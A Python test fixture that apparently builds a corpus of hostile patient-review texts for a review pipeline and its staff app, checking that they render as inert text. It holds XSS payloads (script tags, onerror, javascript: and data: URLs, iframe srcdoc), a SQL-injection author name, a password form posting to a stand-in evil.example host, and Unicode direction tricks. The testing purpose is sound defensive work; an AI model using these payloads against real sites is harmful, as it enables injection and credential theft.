"""A corpus of hostile review texts for the staff app's pages, and a store that holds them as reviews, holds,
quotes and audit entries. Every one must render as inert text."""

from __future__ import annotations

import csv
from pathlib import Path

from pipeline import steps
from pipeline.models import RawReview
from pipeline.runs import run_nightly
from pipeline.settings import Settings, load_settings
from pipeline.sources.ingest import to_row
from plaudit.demo import prepare, serve_demo_site
from storage import quotes as quote_store
from storage import reviews as review_store
from storage.db import utc_now, write_transaction

KIND = " The staff were wonderful and very kind."  # keeps each one positive, so it is suggested as a quote
HOSTILE = [
    '<script>window.__xss = 1</script>The nurses were wonderful and very kind.',
    'The nurses were wonderful <img src=x onerror="window.__xss=1"> and very kind.',
    '"><svg onload="window.__xss=1"><a href="javascript:window.__xss=1">Great care and kind staff.</a>',
    '<a href="data:text/html,<script>alert(1)</script>">Excellent, friendly clinic!</a> Lovely staff.',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe> Wonderful doctors and kind nurses.',
    "</textarea></title></style><b onmouseover=window.__xss=1>Amazing and caring team!",
    '<style>body{background:url(https://evil.example/x.png)}</style><div style="background:url(//evil.example/y)">'
    "Great staff, really kind.</div>",
    "Superb care. " + "A" * 5000 + " The nurses were lovely.",
    "\u202eThe staff were great and kind\u202c \u200b\u200c\u200dzero\u200bwidth\u2066 text \u2069 very good.",
    "مرحبا The doctors were excellent and kind. שלום",
    '<form action="https://evil.example/steal"><input name=password></form>Great clinic, friendly staff.',
    "<<script>script>window.__xss=1<</script>/script> Very kind and gentle nurses.",
    "<meta http-equiv=refresh content='0;url=https://evil.example'> Wonderful, caring and kind.",
    '<link rel=stylesheet href="https://evil.example/x.css"> Excellent staff, kind and patient.',
    "&lt;b&gt;already escaped&lt;/b&gt; &amp; 😊 Wonderful kind staff.",
]
AUTHORS = ['<img src=x onerror="window.__xss=1">', "Robert'); DROP TABLE reviews;--", "<b>Patsy</b> Rogers"]
ONE_MB = ("Great care and kind staff <script>window.__xss=1</script> " * 18_000)[:1_000_000]
FOREIGN_URL = "javascript:window.__xss=1"

HEADER = ["Entry Id", "Entry Date", "Name (First)", "Name (Last)", "Email", "Phone",
          "How would you rate your visit?", "Tell us about your visit", "May we share your words on our website?",
          "Source Url"]


def hostile_store(folder: Path) -> Settings:
    """The demo store plus the corpus twice: through the form export (where ingestion strips markup), and stored
    as it is (what any source could bring one day), scored and suggested by the real stages; a 1 MB review too."""
    with serve_demo_site() as base:
        config = prepare(folder, base)
        with open(folder / "exports" / "review-form-2026-12-hostile.csv", "w", newline="", encoding="utf-8") as f:
            writer = csv.writer(f, quoting=csv.QUOTE_ALL)
            writer.writerow(HEADER)
            for n, text in enumerate(HOSTILE):
                writer.writerow([str(900 + n), "2026-12-01 10:00:00", AUTHORS[n % len(AUTHORS)], "<i>R</i>", "", "",
                                 "5", text, "Checked", FOREIGN_URL if n % 2 else "https://evil.example/review"])
        settings = load_settings(config, env={}, http_delay_seconds=0.0, http_retries=0)
        _store_as_is(settings)
        run_nightly(settings)
    _store_one_mb_review(settings)
    return settings


def _store_as_is(settings: Settings) -> None:
    raws = [RawReview(source="review-form", external_id=f"raw-{n}", text=text, rating=5.0,
                      author=AUTHORS[n % len(AUTHORS)], url=FOREIGN_URL if n % 2 else "data:text/html,<b>x</b>")
            for n, text in enumerate(HOSTILE)]
    with steps.open_store(settings) as db:
        with write_transaction(db):
            review_store.upsert_reviews(db, [to_row(r, settings.source("review-form")) for r in raws], 0, utc_now())


def _store_one_mb_review(settings: Settings) -> None:
    """Longer than any source accepts (sources refuse it), so it is written straight into the store."""
    raw = RawReview(source="review-form", external_id="one-mb", text=ONE_MB, rating=5.0, author=AUTHORS[0],
                    url=FOREIGN_URL)
    row = to_row(raw, settings.source("review-form"))
    with steps.open_store(settings) as db:
        with write_transaction(db):
            review_store.upsert_reviews(db, [row], 0, utc_now())
            quote_store.insert_suggestions(db, [{"review_id": row["id"], "suggested_excerpt": ONE_MB[:60],
                                                 "suggested_attribution": AUTHORS[0], "review_version": 1}], utc_now())
